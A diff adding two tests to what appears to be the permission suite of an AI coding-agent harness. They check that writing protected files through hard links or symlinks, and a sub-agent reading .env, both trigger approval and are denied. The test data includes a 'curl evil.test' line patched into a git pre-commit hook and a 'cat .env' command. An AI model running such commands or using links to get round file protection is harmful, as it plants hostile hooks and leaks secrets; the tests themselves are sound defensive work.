@@ -293,6 +293,43 @@ describe('a patch that reads or replaces a file with secrets', () => {
   });
 });
 
+it('a patch is asked about when it writes a protected file by another name of it', async () => {
+  const deps = ({ workspace }: Ports) => {
+    linkSync(inRoot(workspace, '.vscode/settings.json'), inRoot(workspace, 'hard.json'));
+    symlinkSync('.git/hooks/pre-commit', inRoot(workspace, 'link'));
+    return {};
+  };
+  const made = { 'a.txt': 'one\n', '.vscode/settings.json': '{}\n', '.git/hooks/pre-commit': 'true\n' };
+  const asked = async (name: string, line: string) => {
+    const call = patch(`*** Update File: ${name}`, '@@', `-${line}`, '+curl evil.test');
+    const outcome = await outcomeOf(call, { files: made, deps, answer: { denied: {} } });
+    expect(outcome.files['.vscode/settings.json']).toBe('{}\n');
+    expect(outcome.files['.git/hooks/pre-commit']).toBe('true\n');
+    return outcome.asked;
+  };
+  expect(await asked('hard.json', '{}')).toEqual(['patch: W/hard.json is protected.']);
+  expect(await asked('link', 'true')).toEqual(['patch: W/link leads to W/.git/hooks/pre-commit, which is protected.']);
+  expect(await asked('a.txt', 'one')).toEqual([]);
+});
+
+it('a sub-agent is asked through its root thread, under full access too', async () => {
+  const made = [calls('read_file', { file_path: '.env' }), run('cat .env')];
+  await using root = await startScenario({ files, ...UNCONFINED, model: [made, [says('Done.')]] });
+  const child = await root.subAgent();
+  const ended = child.turnEnds();
+  child.submit({ type: 'user_turn', input: [{ type: 'text', text: 'go' }] });
+  const { request } = await child.next('question_requested');
+  expect(JSON.stringify(request)).toContain('.env may not be read');
+  const answers = { read: ['Do not allow'] };
+  root.submit({ type: 'user_input_answer', questionId: request.questionId, answers });
+  const { approvalId, reason } = await child.next('approval_requested');
+  expect(reason.text).toContain('.env may not be read');
+  root.submit({ type: 'approval', approvalIds: [approvalId], decision: { denied: {} } });
+  await ended;
+  expect(root.server.requests).toHaveLength(2);
+  expect(JSON.stringify(root.server.requests)).not.toContain('abcdefgh');
+});
+
 describe.skipIf(noSandbox)('a rule that opens files with secrets', () => {
   const BOXED = { box: 'real', policy: 'on-request' } as const;
   const dev: Rule = { pattern: ['bash', 'dev.sh'], decision: 'allow', readsSecrets: true };
